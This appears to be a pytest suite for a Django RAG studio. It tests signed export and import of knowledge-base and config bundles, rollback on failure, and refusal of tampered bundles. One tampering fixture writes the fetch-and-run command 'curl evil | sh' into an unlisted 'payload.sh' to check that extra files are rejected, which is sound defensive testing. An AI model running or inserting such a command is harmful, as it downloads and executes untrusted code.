"""RAG configs and knowledge bases as versioned assets, exported as signed bundles and imported elsewhere: with the
index (searchable at once) or without (re-ingested), and refused, with nothing left behind, when tampered with."""

import io
import zipfile

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from django.conf import settings as django_settings
from django.core.files.uploadedfile import SimpleUploadedFile

from accounts.errors import ValidationFailed
from accounts.services import Actor
from assets import signing
from assets.models import Asset, AssetKind
from rag_studio import bundles, files, services
from rag_studio.bootstrap import registered_assets
from rag_studio.models import Chunk, Document, DocumentStatus, KnowledgeBase, RagConfig
from rag_studio.pipeline import ingestion
from rag_studio.pipeline.ingestion import ingest
from rag_studio.search.retrieval import retrieve
from serving.models import Deployment
from tests.assets.tampering import flip_byte, manifest_of, members, pack, signed
from tests.rag_studio.conftest import sample

CHAT = "smollm2-135m-instruct"
LEAVE_QUESTION = "How many days of annual leave do employees get?"


@pytest.fixture
def chat_deployment(presets):
    """A chat deployment by name; nothing runs it, as these tests never ask for an answer."""
    return Deployment.objects.create(workspace=None, name=CHAT, model=presets[CHAT], engine="llamacpp")


@pytest.fixture
def config(acme, ann, indexed_kb, chat_deployment):
    return services.save_rag_config(actor=ann, workspace=acme, name="Handbook QA", knowledge_base=indexed_kb,
                                    template="citations", model=CHAT, prompt="Answer from {context}: {question}",
                                    retrieval={"top_k": 3}, generation={"temperature": 0.1})


@pytest.fixture
def faq_config(acme, ann, chat_deployment):
    """A smaller config: one ingested Markdown document, for tests about the bundle rather than retrieval."""
    kb = services.create_knowledge_base(actor=ann, workspace=acme, name="FAQ")
    outcome, = services.upload_documents(actor=ann, kb=kb, uploads=[sample("northwind-support-faq.md")])
    assert ingest(outcome.document.pk, "pytest") == "indexed"
    return services.save_rag_config(actor=ann, workspace=acme, name="Handbook QA", knowledge_base=kb,
                                    template="basic", model=CHAT)


@pytest.fixture
def globex(make_workspace):
    return make_workspace("Globex", "gil")


@pytest.fixture
def dispatched(monkeypatch):
    """The document ids whose ingestion is dispatched (run the import under django_capture_on_commit_callbacks)."""
    ids = []
    monkeypatch.setattr(ingestion, "dispatch_ingest", ids.extend)
    return ids


def _export(client, config, **params) -> bytes:
    response = client.get(f"/api/rag/configs/{config.pk}/export/", params)
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Disposition"].startswith('attachment; filename="handbook-qa-v')
    return b"".join(response.streaming_content)


def _import(client, data: bytes):
    return client.post("/api/assets/import/", {"bundle": SimpleUploadedFile("bundle.zip", data)}, format="multipart")


def _rag_files() -> set:
    root = django_settings.DATA_DIR / "rag"
    return {path.relative_to(root) for path in root.rglob("*")} if root.exists() else set()


def _asset(workspace, kind, ref) -> Asset:
    return Asset.objects.get(workspace=workspace, kind=kind, ref_id=str(ref.pk))


def test_knowledge_bases_and_configs_get_a_new_asset_version_only_when_they_change(acme, ann, config, indexed_kb):
    kb_asset = _asset(acme, AssetKind.KNOWLEDGE_BASE, indexed_kb)
    assert kb_asset.latest_version == 1 and kb_asset.versions.get().summary["documents"] == 0
    services.update_knowledge_base(actor=ann, kb=indexed_kb, description="The Northwind handbook")
    services.update_knowledge_base(actor=ann, kb=indexed_kb, description="The Northwind handbook")
    kb_asset.refresh_from_db()
    assert kb_asset.latest_version == 2 and kb_asset.versions.first().summary["documents"] == 3

    config_asset = _asset(acme, AssetKind.RAG_CONFIG, config)
    assert config_asset.versions.get().checksum == config.versions.get().checksum
    same = services.save_rag_config(actor=ann, workspace=acme, config=config, name="Handbook QA",
                                    knowledge_base=indexed_kb, template="citations", model=CHAT,
                                    prompt=config.prompt, retrieval={"top_k": 3}, generation={"temperature": 0.1})
    changed = services.save_rag_config(actor=ann, workspace=acme, config=same, name="Handbook QA",
                                       knowledge_base=indexed_kb, template="basic", model=CHAT)
    config_asset.refresh_from_db()
    assert changed.version == 2 and config_asset.latest_version == 2
    assert config_asset.versions.first().checksum == changed.versions.first().checksum

    services.delete_knowledge_base(actor=ann, kb=indexed_kb)
    assert not Asset.objects.filter(workspace=acme).exists()


def test_knowledge_bases_and_configs_made_before_the_registry_are_registered_at_setup(acme, faq_config):
    Asset.objects.all().delete()
    registered_assets(lambda line: None)
    assert set(Asset.objects.filter(workspace=acme).values_list("kind", "name", "latest_version")) == {
        ("knowledge_base", "FAQ", 1), ("rag_config", "Handbook QA", 1)}


def test_a_bundle_with_the_index_is_searchable_in_another_workspace_at_once(
        acme, globex, key_client, config, indexed_kb, dispatched, django_capture_on_commit_callbacks):
    data = _export(key_client("ann", acme), config, include_indexes=1)
    manifest = manifest_of(data)
    assert {entry["kind"] for entry in manifest["entries"]} == {"knowledge_base", "rag_config"}
    assert {path.split("/")[0] for path in manifest["files"]} == {"documents", "index"}
    assert "documents/northwind-employee-handbook.pdf" in manifest["files"]

    with django_capture_on_commit_callbacks(execute=True):
        response = _import(key_client("gil", globex), data)
    assert response.status_code == 201, response.json()
    assert {(a["kind"], a["name"]) for a in response.json()["assets"]} == {
        ("knowledge_base", "Northwind"), ("rag_config", "Handbook QA")}
    kb = KnowledgeBase.objects.get(workspace=globex)
    assert {d.status for d in kb.documents.all()} == {DocumentStatus.INDEXED} and kb.documents.count() == 3
    assert dispatched == []
    assert retrieve(kb, LEAVE_QUESTION).hits[0].filename == "northwind-employee-handbook.pdf"
    assert Chunk.objects.filter(knowledge_base=kb).count() == Chunk.objects.filter(knowledge_base=indexed_kb).count()
    faq = kb.documents.get(filename="northwind-support-faq.md")
    assert faq.findings.filter(kind="email").exists() and faq.chunk_count > 0

    imported = RagConfig.objects.get(workspace=globex)
    assert imported.knowledge_base == kb and (imported.template, imported.model, imported.prompt) == (
        "citations", CHAT, "Answer from {context}: {question}")
    assert imported.retrieval == {"top_k": 3} and imported.generation["temperature"] == 0.1
    # Same documents and settings: the same knowledge-base checksum on both sides.
    assert _asset(globex, AssetKind.KNOWLEDGE_BASE, kb).versions.first().checksum == \
        _asset(acme, AssetKind.KNOWLEDGE_BASE, indexed_kb).versions.first().checksum


def test_a_bundle_without_the_index_is_queued_for_ingestion_under_a_free_name(
        acme, ann, config, indexed_kb, dispatched, django_capture_on_commit_callbacks):
    exported = bundles.export_config_bundle(actor=ann, config=config)
    assert "index/chunks.jsonl" not in exported.manifest["files"]
    with exported.path.open("rb") as file, django_capture_on_commit_callbacks(execute=True):
        result = bundles.import_config_bundle(actor=ann, workspace=acme, file=file)
    exported.path.unlink()
    assert (result.kb.name, result.config.name) == ("Northwind (imported)", "Handbook QA (imported)")
    assert not result.index_restored and result.extra is None
    documents = list(result.kb.documents.all())
    assert {d.status for d in documents} == {DocumentStatus.QUEUED}
    assert sorted(dispatched) == sorted(d.pk for d in documents)
    for document in documents:
        ingest(document.pk, "pytest")
    assert retrieve(result.kb, LEAVE_QUESTION).hits[0].filename == "northwind-employee-handbook.pdf"


def test_an_index_built_with_a_model_this_instance_lacks_falls_back_to_ingestion_and_says_so(
        acme, ann, config, indexed_kb, dispatched, django_capture_on_commit_callbacks):
    exported = bundles.export_config_bundle(actor=ann, config=config, include_indexes=True)
    original = exported.path.read_bytes()
    manifest = manifest_of(original)
    kb_entry = next(e for e in manifest["entries"] if e["kind"] == "knowledge_base")
    kb_entry["settings"]["embedding_model"] = kb_entry["index"]["embedding_model"] = "e5-large-v2"
    other_model = signed(members(original), manifest, signing.instance_key())
    with django_capture_on_commit_callbacks(execute=True):
        result = bundles.import_config_bundle(actor=ann, workspace=acme, file=io.BytesIO(other_model))
    assert not result.index_restored and "'e5-large-v2' is not registered here" in result.notes[0]
    assert result.kb.embedding_model.name == services.DEFAULT_EMBEDDING_MODEL
    assert {d.status for d in result.kb.documents.all()} == {DocumentStatus.QUEUED} and len(dispatched) == 3


def test_the_app_an_exporter_adds_reaches_the_importer_inside_the_transaction(acme, globex, ann, faq_config):
    exported = bundles.export_config_bundle(actor=ann, config=faq_config, extra={"slug": "handbook-bot"})
    assert exported.manifest["kind"] == "app" and exported.manifest["app"] == {"slug": "handbook-bot"}
    gil = Actor(user=globex.memberships.get().user)
    seen = []
    result = bundles.import_config_bundle(actor=gil, workspace=globex, file=exported.path.open("rb"),
                                          on_extra=lambda config, extra: seen.append((config.pk, extra)))
    assert seen == [(result.config.pk, {"slug": "handbook-bot"})] and result.extra == {"slug": "handbook-bot"}


def _flip_document(contents, manifest):
    contents["documents/northwind-support-faq.md"] = flip_byte(contents["documents/northwind-support-faq.md"])


def _edit_manifest(contents, manifest):
    contents["manifest.json"] = contents["manifest.json"].replace(b"Handbook QA", b"Handbook QB")


def _drop_file(contents, manifest):
    del contents["index/vectors.npy"]


def _add_file(contents, manifest):
    contents["documents/payload.sh"] = b"curl evil | sh"


def _untrusted_key(contents, manifest):
    contents.update(members(signed(contents, manifest, Ed25519PrivateKey.generate())))


def _not_a_zip(contents, manifest):
    contents.clear()


TAMPERING = {
    "flipped byte in a document": (_flip_document, "file documents/northwind-support-faq.md checksum mismatch"),
    "edited manifest": (_edit_manifest, "the signature does not match the manifest"),
    "missing file": (_drop_file, "file index/vectors.npy is missing"),
    "extra file": (_add_file, "file documents/payload.sh is not listed in the manifest"),
    "untrusted key": (_untrusted_key, "signed by an untrusted key"),
    "not a zip": (_not_a_zip, "it is not a zip file"),
}


@pytest.mark.parametrize("case", TAMPERING)
def test_a_tampered_bundle_is_refused_with_the_reason_and_nothing_is_imported(
        case, acme, globex, key_client, faq_config):
    data = _export(key_client("ann", acme), faq_config, include_indexes=1)
    tamper, reason = TAMPERING[case]
    contents = members(data)
    tamper(contents, manifest_of(data))
    tampered = pack(contents) if contents else b"Not a bundle, just text."
    rows_before = [model.objects.count() for model in (KnowledgeBase, RagConfig, Document, Chunk, Asset)]
    files_before = _rag_files()

    response = _import(key_client("gil", globex), tampered)
    assert response.status_code == 400
    error = response.json()["error"]
    assert error["code"] == "bundle_rejected" and reason in error["message"], error
    assert [model.objects.count() for model in (KnowledgeBase, RagConfig, Document, Chunk, Asset)] == rows_before
    assert _rag_files() == files_before


def test_a_failure_after_the_files_were_written_removes_them_and_every_row(acme, globex, ann, faq_config):
    exported = bundles.export_config_bundle(actor=ann, config=faq_config, include_indexes=True)
    gil = Actor(user=globex.memberships.get().user)
    files_before = _rag_files()

    written = []

    def app_slug_taken(config, extra):
        written.append(files.kb_dir(config.knowledge_base_id))
        assert any(files.uploads_dir(config.knowledge_base_id).iterdir())  # the documents are in place by now
        raise ValidationFailed("An app with that slug already exists.")

    with pytest.raises(ValidationFailed, match="slug already exists"):
        bundles.import_config_bundle(actor=gil, workspace=globex, file=exported.path.open("rb"),
                                     on_extra=app_slug_taken)
    assert not KnowledgeBase.objects.filter(workspace=globex).exists()
    assert not RagConfig.objects.filter(workspace=globex).exists()
    assert not Asset.objects.filter(workspace=globex).exists()
    assert written and not written[0].exists() and not _rag_files() - files_before


def test_a_config_whose_deployment_is_missing_here_is_refused_by_name(acme, globex, ann, faq_config,
                                                                      chat_deployment):
    exported = bundles.export_config_bundle(actor=ann, config=faq_config)
    chat_deployment.delete()
    gil = Actor(user=globex.memberships.get().user)
    with pytest.raises(ValidationFailed, match=f"deployment '{CHAT}', which does not exist here"):
        bundles.import_config_bundle(actor=gil, workspace=globex, file=exported.path.open("rb"))
    assert not KnowledgeBase.objects.filter(workspace=globex).exists()


def test_viewers_can_neither_export_nor_import(acme, key_client, faq_config):
    viewer = key_client("ann", acme, role="viewer")
    assert viewer.get(f"/api/rag/configs/{faq_config.pk}/export/").status_code == 403
    developer_bundle = _export(key_client("ann", acme), faq_config)
    assert zipfile.is_zipfile(io.BytesIO(developer_bundle))
    assert _import(viewer, developer_bundle).status_code == 403
    assert KnowledgeBase.objects.filter(workspace=acme).count() == 1


def test_the_config_page_offers_the_export_and_the_download_is_a_bundle(acme, client, faq_config):
    config = faq_config
    client.login(username="ann", password="correct-horse-battery")
    page = client.get(f"/rag/configs/{config.pk}/").content.decode()
    assert f'action="/rag/configs/{config.pk}/export/"' in page
    exports = django_settings.DATA_DIR / "exports"
    exports_before = set(exports.iterdir()) if exports.exists() else set()
    response = client.get(f"/rag/configs/{config.pk}/export/", {"version": config.version, "include_indexes": "on"})
    assert response.status_code == 200
    manifest = manifest_of(b"".join(response.streaming_content))
    assert "index/vectors.npy" in manifest["files"]
    assert set(exports.iterdir()) == exports_before  # the temporary file is gone once sent


def test_the_assets_page_imports_a_bundle_and_shows_why_a_tampered_one_is_refused(acme, client, ann, faq_config):
    exported = bundles.export_config_bundle(actor=ann, config=faq_config)
    good = exported.path.read_bytes()
    contents = members(good)
    contents["documents/northwind-support-faq.md"] = flip_byte(contents["documents/northwind-support-faq.md"])
    client.login(username="ann", password="correct-horse-battery")

    refused = client.post("/assets/import/", {"bundle": SimpleUploadedFile("b.zip", pack(contents))},
                          HTTP_REFERER="/assets/", follow=True)
    assert "file documents/northwind-support-faq.md checksum mismatch" in refused.content.decode()
    assert KnowledgeBase.objects.filter(workspace=acme).count() == 1

    imported = client.post("/assets/import/", {"bundle": SimpleUploadedFile("b.zip", good)},
                           HTTP_REFERER="/assets/", follow=True)
    page = imported.content.decode()
    assert "Imported" in page
    assert 'data-asset="FAQ (imported)"' in page and 'data-asset="Handbook QA (imported)"' in page


@pytest.mark.django_db(transaction=True)
def test_other_writers_are_not_locked_out_while_an_import_copies_its_documents(acme, globex, ann, faq_config,
                                                                             monkeypatch):
    """On SQLite a writer waits at most FACTORY's 30 s timeout for the write lock; an import that held it across
    gigabytes of copies made ingestion fail with "database is locked". Here another connection writes, with a
    one-second timeout, while each document is being copied."""
    import sqlite3

    from django.db import connection

    from assets.bundles import Bundle

    exported = bundles.export_config_bundle(actor=ann, config=faq_config, include_indexes=True)
    gil = Actor(user=globex.memberships.get().user)
    database = connection.settings_dict["NAME"]
    writes = []
    copy_to = Bundle.copy_to

    def copy_while_another_process_writes(self, path, target):
        other = sqlite3.connect(database, timeout=1)
        try:
            other.execute("UPDATE rag_studio_knowledgebase SET description = 'written during the copy' "
                          "WHERE id = ?", (faq_config.knowledge_base_id,))
            other.commit()
            writes.append("ok")
        except sqlite3.OperationalError as exc:
            writes.append(str(exc))
        finally:
            other.close()
        copy_to(self, path, target)

    monkeypatch.setattr(Bundle, "copy_to", copy_while_another_process_writes)
    result = bundles.import_config_bundle(actor=gil, workspace=globex, file=exported.path.open("rb"))

    assert writes == ["ok"]
    assert {d.status for d in result.kb.documents.all()} == {DocumentStatus.INDEXED}
    assert retrieve(result.kb, "保修期是多久？").hits[0].filename == "northwind-support-faq.md"
